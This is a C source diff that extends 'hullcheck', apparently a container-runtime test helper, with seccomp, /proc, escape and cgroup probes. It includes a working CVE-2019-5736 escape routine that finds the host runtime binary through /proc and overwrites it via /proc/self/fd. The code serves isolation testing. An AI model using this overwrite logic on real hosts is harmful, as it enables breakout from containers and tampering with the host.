@@ -15,7 +15,11 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <grp.h>
+#include <sched.h>
+#include <signal.h>
 #include <stdio.h>
+#include <sys/socket.h>
+#include <sys/un.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ipc.h>
@@ -26,7 +30,9 @@
 #include <sys/sem.h>
 #include <sys/shm.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <sys/sysmacros.h>
+#include <time.h>
 #include <unistd.h>
 
 #define SHM_SIZE 4096
@@ -398,12 +404,363 @@ static int cmd_mkdir(int argc, char **argv)
 	return 0;
 }
 
+/* ---- raw syscalls (seccomp) ---------------------------------------------- */
+
+/* The syscalls the seccomp tests call by name (x86_64 numbers); any other by number. */
+static const struct {
+	const char *name;
+	long nr;
+} syscall_names[] = {
+	{ "getcwd", SYS_getcwd },	{ "mkdir", SYS_mkdir },
+	{ "mkdirat", SYS_mkdirat },	{ "chmod", SYS_chmod },
+	{ "personality", SYS_personality }, { "getpid", SYS_getpid },
+	{ "getppid", SYS_getppid },	{ "getpriority", SYS_getpriority },
+	{ "lseek", SYS_lseek },		{ "uname", SYS_uname },
+	{ "umask", SYS_umask },		{ "sync", SYS_sync },
+	{ "kill", SYS_kill },		{ "socket", SYS_socket },
+	{ "rmdir", SYS_rmdir },		{ "getuid", SYS_getuid },
+	{ "chdir", SYS_chdir },
+};
+
+/* Async-signal-safe: say that SIGSYS arrived (a seccomp TRAP) and for which syscall. */
+static void on_sigsys(int sig, siginfo_t *si, void *uc)
+{
+	(void)sig;
+	(void)uc;
+	char buf[48] = "SIGSYS syscall=";
+	char digits[16];
+	int n = 0, len = (int)strlen(buf);
+	unsigned v = (unsigned)si->si_syscall;
+	do {
+		digits[n++] = (char)('0' + v % 10);
+		v /= 10;
+	} while (v && n < (int)sizeof(digits));
+	while (n)
+		buf[len++] = digits[--n];
+	buf[len++] = '\n';
+	if (write(1, buf, (size_t)len) < 0)
+		_exit(3);
+	_exit(1);
+}
+
+static int catch_sigsys(void)
+{
+	struct sigaction sa = { .sa_sigaction = on_sigsys, .sa_flags = SA_SIGINFO };
+	return sigaction(SIGSYS, &sa, NULL);
+}
+
+/* A syscall argument: a number (decimal, 0x-hex, 0-octal, negative) or else a string. */
+static long syscall_arg(const char *s)
+{
+	char *end;
+	errno = 0;
+	unsigned long long v = s[0] == '-' ? (unsigned long long)strtoll(s, &end, 0) : strtoull(s, &end, 0);
+	if (*s && !*end && !errno)
+		return (long)v;
+	return (long)s;
+}
+
+static int print_syscall_result(long ret)
+{
+	if (ret < 0)
+		return fail_errno(NULL);
+	printf("ok %ld\n", ret);
+	return 0;
+}
+
+/* syscall NAME|NR [ARG...]: call it raw; "ok RET", the errno name, or "SIGSYS syscall=NR"
+ * (a seccomp TRAP; a seccomp KILL leaves no line at all). */
+static int cmd_syscall(int argc, char **argv)
+{
+	if (argc < 1 || argc > 7)
+		return usage("syscall NAME|NR [ARG...] (up to 6 arguments)");
+	long nr = -1, a[6] = { 0 };
+	for (size_t i = 0; i < sizeof(syscall_names) / sizeof(syscall_names[0]); i++)
+		if (!strcmp(argv[0], syscall_names[i].name))
+			nr = syscall_names[i].nr;
+	if (nr < 0 && parse_long(argv[0], &nr) < 0)
+		return usage("syscall: unknown syscall name (give its number)");
+	for (int i = 1; i < argc; i++)
+		a[i - 1] = syscall_arg(argv[i]);
+	if (catch_sigsys() < 0)
+		return fail_errno("sigaction");
+	errno = 0;
+	return print_syscall_result(syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]));
+}
+
+/* syscall-i386 NR [ARG...]: the same through the i386 ABI (int 0x80), numbers only
+ * (at most 3 arguments): shows what a filter does to the 32-bit entry point. */
+static int cmd_syscall_i386(int argc, char **argv)
+{
+#if defined(__x86_64__)
+	long nr, a[3] = { 0 };
+	if (argc < 1 || argc > 4 || parse_long(argv[0], &nr) < 0)
+		return usage("syscall-i386 NR [ARG...] (up to 3 numeric arguments)");
+	for (int i = 1; i < argc; i++)
+		if (parse_long(argv[i], &a[i - 1]) < 0)
+			return 2;
+	if (catch_sigsys() < 0)
+		return fail_errno("sigaction");
+	long ret;
+	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a[0]), "c"(a[1]), "d"(a[2]) : "memory");
+	if (ret < 0 && ret > -4096) {
+		errno = (int)-ret;
+		ret = -1;
+	}
+	return print_syscall_result(ret);
+#else
+	(void)argc;
+	(void)argv;
+	printf("unsupported\n");
+	return 2;
+#endif
+}
+
+/* ---- escapes (tests/security.bats) ----------------------------------------- */
+
+static const char *errno_name(int e)
+{
+	const char *name = strerrorname_np(e);
+	return name ? name : "EUNKNOWN";
+}
+
+/* proc-access PID: what a process may reach of another one through /proc, as an
+ * attacker sharing its pid namespace would try: "exe=R exe-write=R root=R cwd=R
+ * fd0=R environ=R mem=R", each R "ok" or the errno name. Exit 0 when all failed. */
+static int cmd_proc_access(int argc, char **argv)
+{
+	static const struct {
+		const char *name, *file;
+		int flags;
+	} tries[] = {
+		{ "exe", "exe", O_PATH },	 { "exe-write", "exe", O_WRONLY },
+		{ "root", "root/", O_PATH | O_DIRECTORY }, { "cwd", "cwd/", O_PATH | O_DIRECTORY },
+		{ "fd0", "fd/0", O_PATH },	 { "environ", "environ", O_RDONLY },
+		{ "mem", "mem", O_RDONLY },
+	};
+	if (argc != 1)
+		return usage("proc-access PID");
+	int reached = 0;
+	for (size_t i = 0; i < sizeof(tries) / sizeof(tries[0]); i++) {
+		char path[64];
+		snprintf(path, sizeof(path), "/proc/%s/%s", argv[0], tries[i].file);
+		int fd = open(path, tries[i].flags | O_CLOEXEC);
+		printf("%s%s=%s", i ? " " : "", tries[i].name, fd >= 0 ? "ok" : errno_name(errno));
+		if (fd >= 0) {
+			reached = 1;
+			close(fd);
+		}
+	}
+	printf("\n");
+	return reached;
+}
+
+/* An O_PATH fd of the /proc/N/exe that is the file DEV:INO, scanning every process. */
+static int find_exe(dev_t dev, ino_t ino)
+{
+	DIR *d = opendir("/proc");
+	if (!d)
+		return -1;
+	int found = -1;
+	struct dirent *e;
+	while (found < 0 && (e = readdir(d))) {
+		if (e->d_name[0] < '0' || e->d_name[0] > '9')
+			continue;
+		char path[300];
+		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
+		int fd = open(path, O_PATH | O_CLOEXEC);
+		struct stat st;
+		if (fd >= 0 && fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino)
+			found = fd;
+		else if (fd >= 0)
+			close(fd);
+	}
+	closedir(d);
+	return found;
+}
+
+static double now_seconds(void)
+{
+	struct timespec ts;
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+/* exe-overwrite MAJOR:MINOR:INO SECONDS DIR: the CVE-2019-5736 attack. Watch /proc for a
+ * process whose exe is that file (the runtime's binary on the host), hold it with O_PATH,
+ * and as soon as no process runs it any more (no ETXTBSY), reopen it for writing through
+ * /proc/self/fd and write. DIR/ready is written after the first scan; the watch ends early
+ * when DIR/stop appears. Prints "overwritten" (exit 0), or why not: "not found", "found:
+ * ETXTBSY" (still busy at the deadline), "found: EACCES"... */
+static int cmd_exe_overwrite(int argc, char **argv)
+{
+	unsigned maj, min;
+	unsigned long long ino;
+	long seconds;
+	if (argc != 3 || sscanf(argv[0], "%u:%u:%llu", &maj, &min, &ino) != 3 ||
+	    parse_long(argv[1], &seconds) < 0)
+		return usage("exe-overwrite MAJOR:MINOR:INO SECONDS DIR");
+	char ready[512], stop[512];
+	snprintf(ready, sizeof(ready), "%s/ready", argv[2]);
+	snprintf(stop, sizeof(stop), "%s/stop", argv[2]);
+	double deadline = now_seconds() + (double)seconds;
+	int exe = -1;
+	for (int scans = 0; exe < 0 && now_seconds() < deadline; scans++) {
+		exe = find_exe(makedev(maj, min), (ino_t)ino);
+		if (scans == 0) {
+			int fd = open(ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+			if (fd >= 0) {
+				ssize_t n = write(fd, "ready\n", 6);
+				(void)n;
+				close(fd);
+			}
+		}
+		if (exe < 0 && access(stop, F_OK) == 0)
+			break;
+		if (exe < 0)
+			usleep(1000);
+	}
+	if (exe < 0) {
+		printf("not found\n");
+		return 1;
+	}
+	char self[64];
+	snprintf(self, sizeof(self), "/proc/self/fd/%d", exe);
+	int err = 0;
+	while (now_seconds() < deadline) {
+		int w = open(self, O_WRONLY | O_CLOEXEC);
+		if (w >= 0) {
+			ssize_t n = pwrite(w, "#!PWNED\n", 8, 0);
+			err = n == 8 ? 0 : errno;
+			close(w);
+			break;
+		}
+		err = errno;
+		if (err != ETXTBSY)
+			break;
+		usleep(10000);
+	}
+	if (!err) {
+		printf("overwritten\n");
+		return 0;
+	}
+	printf("found: %s\n", errno_name(err));
+	return 1;
+}
+
+/* cwd: the kernel's getcwd(), which says "(unreachable)/..." for a directory outside our root. */
+static int cmd_cwd(void)
+{
+	char buf[4096];
+	if (syscall(SYS_getcwd, buf, sizeof(buf)) < 0)
+		return fail_errno(NULL);
+	printf("%s\n", buf);
+	return 0;
+}
+
+/* ---- cgroups ---------------------------------------------------------------- */
+
+/* alloc MB: allocate and touch MB mebibytes; "ok" if we are still alive (the
+ * OOM killer of a memory-limited cgroup ends us with SIGKILL instead). */
+static int cmd_alloc(int argc, char **argv)
+{
+	long mb;
+	if (argc != 1 || parse_long(argv[0], &mb) < 0 || mb <= 0)
+		return usage("alloc MB");
+	for (long i = 0; i < mb; i++) {
+		char *p = malloc(1 << 20);
+		if (!p)
+			return fail_errno("malloc");
+		memset(p, 1, 1 << 20);
+	}
+	printf("ok\n");
+	return 0;
+}
+
+static void on_sigbus(int sig)
+{
+	(void)sig;
+	static const char msg[] = "SIGBUS\n";
+	(void)!write(1, msg, sizeof(msg) - 1);
+	_exit(1);
+}
+
+/* hugetlb N: map and touch N 2 MiB huge pages; "ok", the errno of mmap (a
+ * reservation limit), or SIGBUS (a fault past the hugetlb limit). */
+static int cmd_hugetlb(int argc, char **argv)
+{
+	long n;
+	if (argc != 1 || parse_long(argv[0], &n) < 0 || n <= 0)
+		return usage("hugetlb N");
+	signal(SIGBUS, on_sigbus);
+	size_t len = (size_t)n << 21;
+	char *p = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB, -1, 0);
+	if (p == MAP_FAILED)
+		return fail_errno("mmap");
+	for (long i = 0; i < n; i++)
+		p[(size_t)i << 21] = 1;
+	printf("ok\n");
+	return 0;
+}
+
+/* sched-fifo: become SCHED_FIFO priority 1; "ok" or the errno (EPERM without
+ * a real-time budget in the cpu cgroup). */
+static int cmd_sched_fifo(void)
+{
+	struct sched_param sp = { .sched_priority = 1 };
+	if (sched_setscheduler(0, SCHED_FIFO, &sp) < 0)
+		return fail_errno(NULL);
+	printf("ok\n");
+	return 0;
+}
+
+/* open PATH r|w|rw: open an existing file (a device node) without creating
+ * or truncating it; "ok" or the errno (EPERM from the device cgroup). */
+static int cmd_open(int argc, char **argv)
+{
+	if (argc != 2)
+		return usage("open PATH r|w|rw");
+	int flags = !strcmp(argv[1], "r") ? O_RDONLY : !strcmp(argv[1], "w") ? O_WRONLY : O_RDWR;
+	int fd = open(argv[0], flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
+	if (fd < 0)
+		return fail_errno(NULL);
+	close(fd);
+	printf("ok\n");
+	return 0;
+}
+
+/* unix-socket PATH: bind, listen, connect and pass a message through a UNIX
+ * socket at PATH; "ok" or the errno of the step that failed. */
+static int cmd_unix_socket(int argc, char **argv)
+{
+	if (argc != 1)
+		return usage("unix-socket PATH");
+	struct sockaddr_un sa = { .sun_family = AF_UNIX };
+	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", argv[0]);
+	int srv = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (srv < 0 || bind(srv, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(srv, 1) < 0)
+		return fail_errno(NULL);
+	int cli = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (cli < 0 || connect(cli, (struct sockaddr *)&sa, sizeof(sa)) < 0)
+		return fail_errno(NULL);
+	int conn = accept(srv, NULL, NULL);
+	char buf[8] = "";
+	if (conn < 0 || write(cli, "ping", 4) != 4 || read(conn, buf, sizeof(buf)) != 4)
+		return fail_errno(NULL);
+	unlink(argv[0]);
+	printf(strcmp(buf, "ping") ? "garbled\n" : "ok\n");
+	return 0;
+}
+
 static int cmd_help(void)
 {
 	printf("hullcheck ipc-host-setup KEY | ipc-host-cleanup shm=ID... | shm-attach ID | "
 	       "shm-get KEY | sem-get KEY | msg-get KEY | sem-stat ID | msg-stat ID | "
 	       "shm-open NAME | caps [SET] | fds | rlimit NAME | ids | umask | nnp | oom | "
-	       "dev PATH | write PATH | mkdir PATH\n");
+	       "dev PATH | write PATH | mkdir PATH | syscall NAME|NR [ARG...] | "
+	       "syscall-i386 NR [ARG...]\n");
+	printf("hullcheck proc-access PID | exe-overwrite MAJOR:MINOR:INO SECONDS DIR | cwd\n");
+	printf("hullcheck alloc MB | hugetlb N | sched-fifo | open PATH r|w|rw | unix-socket PATH\n");
 	return 0;
 }
 
@@ -437,6 +794,16 @@ int main(int argc, char **argv)
 	if (!strcmp(cmd, "dev"))              return cmd_dev(n, args);
 	if (!strcmp(cmd, "write"))            return cmd_write(n, args);
 	if (!strcmp(cmd, "mkdir"))            return cmd_mkdir(n, args);
+	if (!strcmp(cmd, "syscall"))          return cmd_syscall(n, args);
+	if (!strcmp(cmd, "syscall-i386"))     return cmd_syscall_i386(n, args);
+	if (!strcmp(cmd, "proc-access"))      return cmd_proc_access(n, args);
+	if (!strcmp(cmd, "exe-overwrite"))    return cmd_exe_overwrite(n, args);
+	if (!strcmp(cmd, "cwd"))              return cmd_cwd();
+	if (!strcmp(cmd, "alloc"))            return cmd_alloc(n, args);
+	if (!strcmp(cmd, "hugetlb"))          return cmd_hugetlb(n, args);
+	if (!strcmp(cmd, "sched-fifo"))       return cmd_sched_fifo();
+	if (!strcmp(cmd, "open"))             return cmd_open(n, args);
+	if (!strcmp(cmd, "unix-socket"))      return cmd_unix_socket(n, args);
 	if (!strcmp(cmd, "help"))             return cmd_help();
 	return usage("unknown command (hullcheck help)");
 }
